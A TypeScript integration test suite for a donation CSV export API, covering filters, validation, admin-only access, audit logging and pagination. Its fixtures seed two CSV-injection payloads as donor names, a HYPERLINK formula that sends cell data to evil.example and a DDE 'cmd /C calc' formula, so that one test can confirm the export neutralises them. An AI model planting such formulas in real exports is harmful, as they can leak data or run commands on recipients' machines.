import { exportDonations } from '../../../models/foundation/donations/exportDonations.js';
import { apiWorld } from '../../support/apiWorld.js';
import { aFoundation, type Foundation } from '../../support/foundation.js';
import { anOfflineGift, aPaidGift, aWaitingGift } from '../../support/giving.js';
import { asOwner } from '../../support/owner.js';
import { countStatements } from '../../support/statements.js';

const { api, world, other, as } = apiWorld();
let foundation: Foundation;
let paid: string;
let waiting: string;
let check: string;
beforeAll(async () => {
  foundation = await aFoundation(world, { timezone: 'America/New_York' });
  paid = await aPaidGift(world, foundation, { email: 'ada@example.org', is_anonymous: true });
  waiting = await aWaitingGift(world, foundation, {
    email: 'eve@example.org',
    first_name: '=HYPERLINK("https://evil.example/?x="&A1)',
    last_name: '@SUM(1+1)*cmd|"/C calc"!A0',
  });
  check = await anOfflineGift(world, foundation, { email: 'grace@example.org', received_on: '2025-12-31' });
  await anOfflineGift(other, await aFoundation(other));
});

const address = (query = '') => `/api/foundation/donations/export/${query}`;
const download = async (query = '', person = foundation.admin) => {
  const response = await fetch(`${api.url}${address(query)}`, { headers: { Authorization: `Bearer ${person.token}` } });
  return { status: response.status, headers: response.headers, text: await response.text() };
};

/** The rows of an export as objects. Reads quoted cells. */
async function rowsOf(query = ''): Promise<Record<string, string>[]> {
  const { status, text } = await download(query);
  expect(status).toBe(200);
  const [titles = [], ...lines] = text
    .split('\r\n')
    .filter(Boolean)
    .map((line) =>
      [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(([, quoted, plain]) =>
        quoted === undefined ? (plain as string) : quoted.replaceAll('""', '"'),
      ),
    );
  return lines.map((cells) =>
    Object.fromEntries(titles.map((title, n) => [title.replace('\uFEFF', ''), cells[n] as string])),
  );
}
const idsOf = async (query: string) => (await rowsOf(query)).map(({ id }) => id);

test('an admin exports the gifts of the foundation, newest first', async () => {
  const { status, headers, text } = await download();
  expect([status, headers.get('content-type'), headers.get('content-disposition')]).toEqual([
    200,
    'text/csv; charset=utf-8',
    expect.stringMatching(/^attachment; filename="gifts-\d{4}-\d\d-\d\d\.csv"$/),
  ]);
  expect(text).toMatch(/^(?:[^\n]*\r\n){4}$/);
  const [offline, pending, online] = await rowsOf();
  expect(offline).toEqual({
    id: check,
    given_on: '2025-12-31',
    created_at: expect.stringMatching(/Z$/),
    status: 'completed',
    method: 'check',
    tax_year: '2025',
    amount: '100.00',
    fee: '0.00',
    net: '100.00',
    refunded: '0.00',
    currency: 'usd',
    first_name: 'Ada',
    last_name: 'Lovelace',
    email: 'grace@example.org',
    is_anonymous: 'yes',
    campaign: '',
    fund: 'General fund',
    receipt: '2025-000001',
  });
  expect(pending).toMatchObject({ id: waiting, status: 'pending', given_on: '', tax_year: '', receipt: '' });
  expect(online).toMatchObject({
    id: paid,
    method: 'card',
    amount: '50.00',
    fee: '1.75',
    net: '48.25',
    campaign: 'Spring appeal',
    email: 'ada@example.org',
    is_anonymous: 'yes',
  });
});

test('it has the filters of the list, and the method', async () => {
  const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'America/New_York' }).format(new Date());
  expect(await idsOf('?status=pending')).toEqual([waiting]);
  expect(await idsOf('?method=check')).toEqual([check]);
  expect(await idsOf('?method=card&status=completed')).toEqual([paid]);
  expect(await idsOf(`?campaign=${foundation.campaignId}`)).toEqual([waiting, paid]);
  expect(await idsOf(`?fund=${foundation.fundId}&from=${today}&to=${today}`)).toEqual([check, waiting, paid]);
  expect(await idsOf('?to=2020-01-01')).toEqual([]);
  const [{ donor_id }] = (await asOwner('SELECT donor_id FROM donations WHERE id = $1', [paid])) as [
    { donor_id: string },
  ];
  expect(await idsOf(`?donor=${donor_id}`)).toEqual([paid]);
});

test.each([
  ['status=paid', 'status'],
  ['method=gold', 'method'],
  ['campaign=x', 'campaign'],
  ['from=2026-02-30', 'from'],
  ['from=2026-02-01&to=2026-01-01', 'to'],
  ['page=1', 'page'],
])('%s is refused', async (query, field) => {
  expect(await as(foundation.admin).get(address(`?${query}`))).toMatchObject({
    status: 400,
    body: { code: 'validation_error', errors: { [field]: expect.any(Array) } },
  });
});

test('no cell is a formula', async () => {
  const { text } = await download('?status=pending');
  for (const cell of text.split(/,|\r\n/)) expect(cell).not.toMatch(/^"?[=+\-@\t\r]/);
  const [row] = await rowsOf('?status=pending');
  expect(row).toMatchObject({
    first_name: `'=HYPERLINK("https://evil.example/?x="&A1)`,
    last_name: `'@SUM(1+1)*cmd|"/C calc"!A0`,
  });
});

test('only admins of the foundation export, and each export is in the audit log', async () => {
  for (const person of [foundation.editor, world.admin, world.officer, world.member])
    expect((await as(person).get(address())).status).toBe(403);
  const logged = () =>
    asOwner("SELECT actor_user_id, after FROM audit_log WHERE action = 'donations.exported' ORDER BY id");
  const before = (await logged()).length;
  await download('?method=check');
  expect((await logged()).slice(before)).toEqual([
    { actor_user_id: foundation.admin.userId, after: { method: 'check' } },
  ]);
});

test('pages follow one another without a gap, also while gifts arrive', async () => {
  const all: string[] = [];
  for await (const page of exportDonations(world.organizationId, {}, 2)) {
    all.push(...page.map(({ id }) => id));
    if (all.length === 2) await aWaitingGift(world, foundation);
  }
  expect(all).toEqual([check, waiting, paid]);
});

test('a page takes a fixed number of statements', async () => {
  const statements = await countStatements(() => download());
  await aWaitingGift(world, foundation);
  expect(await countStatements(() => download())).toBe(statements);
  expect(statements).toBeLessThanOrEqual(8);
});

test('an error on the way breaks the connection', async () => {
  // The first line, with the titles, is sent before the first page is read.
  await asOwner('ALTER TABLE tax_receipts RENAME COLUMN number TO number_away');
  try {
    await expect(download()).rejects.toThrow();
  } finally {
    await asOwner('ALTER TABLE tax_receipts RENAME COLUMN number_away TO number');
  }
  expect((await rowsOf()).length).toBeGreaterThan(0);
});
